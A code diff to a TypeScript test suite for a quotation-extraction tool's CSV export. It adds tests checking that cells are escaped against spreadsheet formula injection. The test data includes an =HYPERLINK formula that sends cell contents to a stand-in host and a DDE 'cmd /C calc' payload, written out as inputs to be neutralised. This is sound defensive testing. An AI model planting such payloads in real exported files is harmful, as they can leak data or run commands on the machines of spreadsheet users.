@@ -185,18 +185,38 @@ describe('W3C Web Annotation', () => {
 });
 
 describe('quotations CSV', () => {
-  test('RFC 4180: header, CRLF after each record, fields with commas, quotes or line breaks quoted, quotes doubled', () => {
+  test('RFC 4180: header, CRLF after each record, every text field quoted, quotes doubled, offsets bare', () => {
     const doc = documentOf('«[QUOTE Мы сказали: "нет", и\nвсё]», — [CUE заявил] [SPEAKER мэр].\n«[QUOTE Да]»', [
       { kind: 'direct', speakerName: 'Иван Петров, мэр' },
       { kind: 'indirect', speakerName: null },
     ]);
     assert.equal(
       check(doc, 'csv', 'a,b.txt').get('a,b.quotes.csv'),
-      'file,speaker,speaker_mention,quotation,cue,kind,start,end\r\n' +
-        '"a,b.txt","Иван Петров, мэр",мэр,"Мы сказали: ""нет"", и\nвсё",заявил,direct,1,25\r\n' +
-        '"a,b.txt",,,Да,,indirect,43,45\r\n',
+      '"file","speaker","speaker_mention","quotation","cue","kind","start","end"\r\n' +
+        '"a,b.txt","Иван Петров, мэр","мэр","Мы сказали: ""нет"", и\nвсё","заявил","direct",1,25\r\n' +
+        '"a,b.txt","","","Да","","indirect",43,45\r\n',
     );
   });
+
+  // OWASP's CSV injection advice: a cell that starts with = + - @ tab or CR gets a leading ', and every cell is
+  // quoted, so a semicolon (the separator of Russian spreadsheets) cannot start a new cell with a formula.
+  const shape = documentOf('«[QUOTE а]»').quotes[0];
+  for (const [quotation, quotationCell, speaker, speakerCell] of [
+    ['=HYPERLINK("http://x.example/?"&A1;"клик")', '"\'=HYPERLINK(""http://x.example/?""&A1;""клик"")"', 'мэр', '"мэр"'],
+    ['+7 градусов', '"\'+7 градусов"', '@мэр', '"\'@мэр"'],
+    ['-2+3', '"\'-2+3"', '\tмэр', '"\'\tмэр"'],
+    ['\rитог', '"\'\rитог"', '=1+1', '"\'=1+1"'],
+    ['нет;=cmd|\' /C calc\'!A0', '"нет;=cmd|\' /C calc\'!A0"', '— мэр', '"— мэр"'],
+    ['\'=1', '"\'=1"', ' =мэр', '" =мэр"'],
+  ]) {
+    test(`formula characters: ${JSON.stringify(quotation)} by ${JSON.stringify(speaker)}`, () => {
+      const text = `«${quotation}»`;
+      const end = [...text].length - 1;
+      const doc: Analysis = { ...documentOf(text), quotes: [{ ...shape, start: 1, end, text: quotation, speakerName: speaker }] };
+      const records = check(doc, 'csv', '-x.txt').get('-x.quotes.csv')!.split('\r\n');
+      assert.equal(records[1], `"\'-x.txt",${speakerCell},"",${quotationCell},"","direct",1,${end}`);
+    });
+  }
 });
 
 const PAGE_ELEMENTS = new Set(['!doctype', 'html', 'head', 'meta', 'title', 'style', 'body', 'main', 'h1', 'h2', 'p', 'ul', 'ol', 'li', 'mark', 'span', 'article', 'section', 'blockquote', 'div', 'strong']);
